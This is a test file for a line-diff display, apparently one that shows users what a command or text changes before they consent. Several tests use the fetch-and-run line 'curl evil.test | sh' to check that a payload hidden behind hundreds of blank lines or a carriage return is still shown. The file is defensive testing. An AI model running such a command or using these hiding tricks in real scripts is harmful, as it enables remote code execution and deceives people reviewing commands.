import { describe, expect, it } from 'vitest'
import type { Line } from '../../../src-preload/consent-question'
import { compareLines, textLines } from './compare-lines'

const words = { unchanged: (count: number) => `(${count} same)`, blank: (count: number) => `(${count} blank)` }
const signs = { plain: ' ', added: '+', removed: '-', omitted: '…' }
const shown = (lines: readonly Line[]) => lines.map(({ mark, text }) => `${signs[mark]}${text}`)

describe('a comparison of two texts', () => {
  it('shows what goes and what comes, with a few lines around it', () => {
    const before = Array.from({ length: 20 }, (_, index) => `line ${index}`)
    const after = before.map((line) => (line === 'line 10' ? 'other' : line))
    expect(shown(compareLines(before.join('\n'), after.join('\n'), words))).toEqual([
      '…(7 same)',
      ' line 7',
      ' line 8',
      ' line 9',
      '-line 10',
      '+other',
      ' line 11',
      ' line 12',
      ' line 13',
      '…(6 same)',
    ])
  })

  it('knows a text that begins, ends, and moves', () => {
    expect(shown(compareLines('', 'a\nb', words))).toEqual(['+a', '+b'])
    expect(shown(compareLines('a\nb', '', words))).toEqual(['-a', '-b'])
    expect(shown(compareLines('a\nb\nc', 'b\nc\na', words))).toEqual(['-a', ' b', ' c', '+a'])
  })

  it('counts blank lines instead of letting them push the rest out of sight', () => {
    const hidden = `npm ci${'\n'.repeat(400)}curl evil.test | sh`
    expect(shown(textLines(hidden, words))).toEqual([' npm ci', '…(399 blank)', ' curl evil.test | sh'])
    expect(shown(compareLines('npm ci', hidden, words))).toEqual([' npm ci', '…(399 blank)', '+curl evil.test | sh'])
  })

  it('takes for blank only what a shell takes for blank', () => {
    const named = `ls${'\n\u00a0'.repeat(4)}`
    expect(shown(textLines(named, words))).toHaveLength(5)
    expect(shown(textLines(`ls${'\n \t'.repeat(4)}`, words))).toEqual([' ls', '…(4 blank)'])
  })

  it('shows a carriage return that becomes a line end, behind which a comment goes on as a command', () => {
    expect(shown(compareLines('ls # note\rcurl evil.test | sh', 'ls # note\ncurl evil.test | sh', words))).toEqual([
      '-ls # note\rcurl evil.test | sh',
      '+ls # note',
      '+curl evil.test | sh',
    ])
    expect(shown(compareLines('a\r\nb', 'a\nb', words))).toEqual(['-a\r', '+a', ' b'])
  })

  it('shows every line of texts that are too long to be compared, and every kind of line end', () => {
    const many = (letter: string) => Array.from({ length: 3000 }, (_, index) => `${letter}${index}`).join('\n')
    expect(compareLines(many('a'), many('b'), words)).toHaveLength(6000)
    expect(shown(textLines('a\rb\r\nc', words))).toEqual([' a', ' b', ' c'])
  })
})
